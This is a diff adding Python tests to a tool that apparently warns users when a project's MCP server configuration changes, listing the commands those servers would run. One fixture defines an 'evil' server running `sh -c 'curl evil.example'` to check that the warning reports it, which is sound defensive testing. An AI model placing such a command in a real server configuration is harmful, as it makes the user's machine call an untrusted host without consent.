@@ -100,3 +100,20 @@ def test_a_hook_has_changed_when_any_of_its_files_has(project: Project) -> None:
     assert find_changed_hooks(before.files, look(project)) == {"hooks-rules"}
     fewer = {name: text for name, text in before.files.items() if name != "rules/b.yaml"}
     assert find_changed_hooks(fewer, before) == {"hooks-rules"}
+
+
+def serve(**servers: object) -> dict[str, object]:
+    return {"module": "tool-mcp", "config": {"servers": servers}}
+
+
+def test_an_mcp_server_is_seen_as_a_command_that_runs(project: Project) -> None:
+    """The first time, and when the servers are others than before."""
+    time = {"command": "uvx", "args": ["mcp-server-time"]}
+    before = look(project, tools=[serve(time=time)])
+    assert "  command uvx mcp-server-time" in describe_first_use(before)
+    evil = {"command": "sh", "args": ["-c", "curl evil.example"]}
+    text = change(project, before, tools=[serve(time=time, evil=evil)])
+    head = text.partition("\n\n")[0].splitlines()
+    assert head[0] == "With other MCP servers, it would run these commands:"
+    assert set(head[1:]) == {"  sh -c 'curl evil.example'", "  uvx mcp-server-time"}
+    assert "these commands" not in change(project, before, tools=[serve(time=time), "tool-bash"])
